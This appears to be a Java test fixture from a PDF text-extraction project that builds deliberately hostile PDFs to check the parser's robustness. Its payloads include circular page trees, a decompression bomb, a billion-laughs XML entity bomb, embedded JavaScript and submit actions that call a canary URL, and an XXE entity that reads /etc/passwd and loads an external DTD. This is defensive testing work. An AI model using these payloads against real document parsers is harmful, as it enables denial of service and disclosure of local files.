package kz.bayandama.extract;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.zip.DeflaterOutputStream;

/** PDFs made to hurt, written object by object: no library would write them. */
final class HostilePdfs {
  private static final String PAGE =
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font <<"
          + " /F 5 0 R >> >> >>";
  private static final String FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
  private static final String TEXT = stream("BT /F 12 Tf 20 100 Td (Visit report) Tj ET");
  private static final String PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";

  private HostilePdfs() {}

  static Map<String, byte[]> all(String canary) throws IOException {
    Map<String, byte[]> all = new LinkedHashMap<>();
    String catalog = "<< /Type /Catalog /Pages 2 0 R >>";
    all.put(
        "pages in a circle.pdf",
        pdf(
            catalog,
            "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>",
            PAGE,
            TEXT,
            FONT));
    all.put(
        "form that draws itself.pdf",
        pdf(
            catalog,
            PAGES,
            PAGE.replace("/Font", "/XObject << /X 6 0 R >> /Font"),
            stream("/X Do BT /F 12 Tf 20 100 Td (Visit report) Tj ET"),
            FONT,
            "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
                + " /Length 12 >>\nstream\n/X Do /X Do \nendstream"));
    all.put(
        "length that is itself.pdf",
        pdf(catalog, PAGES, PAGE, "<< /Length 4 0 R >>\nstream\nBT ET\nendstream", FONT));
    all.put(
        "nested arrays.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /X "
                + "[".repeat(200_000)
                + "]".repeat(200_000)
                + " >>",
            PAGES,
            PAGE,
            TEXT,
            FONT));
    all.put(
        "million pages.pdf", pdf(catalog, PAGES.replace("1 >>", "1000000 >>"), PAGE, TEXT, FONT));
    all.put("huge page.pdf", pdf(catalog, PAGES, PAGE.replace("200 200", "9e9 9e9"), TEXT, FONT));
    all.put("packed content.pdf", packed(catalog));
    all.put("earlier table in a circle.pdf", circle(pdf(catalog, PAGES, PAGE, TEXT, FONT)));
    all.put(
        "actions.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ("
                + canary
                + "uri) >> /AA <<"
                + " /WC << /S /SubmitForm /F ("
                + canary
                + "form) >> >> /Names << /JavaScript << /Names"
                + " [(a) << /S /JavaScript /JS (app.launchURL\\('"
                + canary
                + "js'\\)) >>] >> >> >>",
            PAGES,
            PAGE,
            TEXT,
            FONT));
    StringBuilder laughs = new StringBuilder("<!ENTITY a0 \"x\">");
    for (int i = 1; i < 12; i++) {
      laughs.append("<!ENTITY a" + i + " \"" + ("&a" + (i - 1) + ";").repeat(10) + "\">");
    }
    all.put("billion laughs in XFA.pdf", xfa("<!DOCTYPE x [" + laughs + "]><x>&a11;</x>"));
    all.put(
        "entity in XFA calls out.pdf",
        xfa(
            "<!DOCTYPE x [<!ENTITY % p SYSTEM \""
                + canary
                + "xfa.dtd\"> %p;"
                + "<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
    return all;
  }

  private static byte[] xfa(String xml) {
    return pdf(
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>",
        PAGES,
        PAGE,
        TEXT,
        FONT,
        stream(xml));
  }

  /** A page whose content unpacks to a gigabyte of drawing. */
  private static byte[] packed(String catalog) throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    byte[] piece = HostileOriginals.utf8("BT /F 12 Tf (x) Tj ET ".repeat(1_000));
    try (DeflaterOutputStream deflater = new DeflaterOutputStream(packed)) {
      for (int i = 0; i < 20_000; i++) {
        deflater.write(piece);
      }
    }
    String text = packed.toString(StandardCharsets.ISO_8859_1);
    String content =
        "<< /Filter /FlateDecode /Length " + text.length() + " >>\nstream\n" + text + "\nendstream";
    return pdf(catalog, PAGES, PAGE, content, FONT);
  }

  /** The same, whose trailer names its own table as the earlier one. */
  private static byte[] circle(byte[] pdf) {
    String text = new String(pdf, StandardCharsets.ISO_8859_1);
    int table = text.lastIndexOf("xref\n", text.indexOf("trailer"));
    return text.replace("trailer\n<<", "trailer\n<< /Prev " + table)
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private static String stream(String content) {
    return "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream";
  }

  private static byte[] pdf(String... objects) {
    StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
    List<Integer> places = new ArrayList<>();
    for (int i = 0; i < objects.length; i++) {
      places.add(pdf.length());
      pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
    }
    int table = pdf.length();
    pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f \n");
    for (int place : places) {
      pdf.append(String.format(Locale.ROOT, "%010d 00000 n \n", place));
    }
    pdf.append("trailer\n<< /Size ")
        .append(objects.length + 1)
        .append(" /Root 1 0 R >>\nstartxref\n")
        .append(table)
        .append("\n%%EOF\n");
    return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
  }
}
